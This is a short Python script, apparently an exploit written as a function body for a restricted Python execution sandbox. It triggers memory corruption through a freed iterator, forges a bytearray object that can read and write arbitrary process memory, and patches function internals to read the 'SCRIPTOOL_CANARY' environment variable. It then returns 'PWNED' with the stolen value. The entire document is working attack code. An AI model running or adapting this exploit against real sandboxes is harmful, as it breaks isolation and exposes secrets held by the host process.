import textwrap

kept = []


class Goes:
    __slots__ = ("inner", "b", "c", "d", "e", "f", "g", "h")

    def __getitem__(self, index):
        if self.inner:
            self.inner = False
            next(items, None)
        raise IndexError


def environment():
    import os

    return os.environ


def fits(address):
    return address & 0xFFFFFFFF < 1 << 30


kind = bytearray
if not fits(id(kind)):
    return "no, in three of four processes: the digits of an int have 30 bits of 32"
fields = [id(kind), 1 << 60, 1 << 60, 0, 0, 0]
number = 1 << 30 * 17
for place, field in enumerate(fields):
    number |= (field & 0xFFFFFFFF) << 60 * place
    number |= (field >> 32) << 60 * place + 30

goes = Goes()
goes.inner = True
items = iter(goes)
next(items, None)
items = None
kept.extend([number ^ n << 30 * 16 for n in range(100)])
memory = goes
if type(memory) is not kind:
    return "no " + type(memory).__name__
mine = id(environment) + 24
real = id(textwrap.dedent) + 24
before = [memory[mine + n] for n in range(8)]
for n in range(8):
    memory[mine + n] = memory[real + n]
told = environment()["SCRIPTOOL_CANARY"]
for n in range(8):
    memory[mine + n] = before[n]
return "PWNED " + told
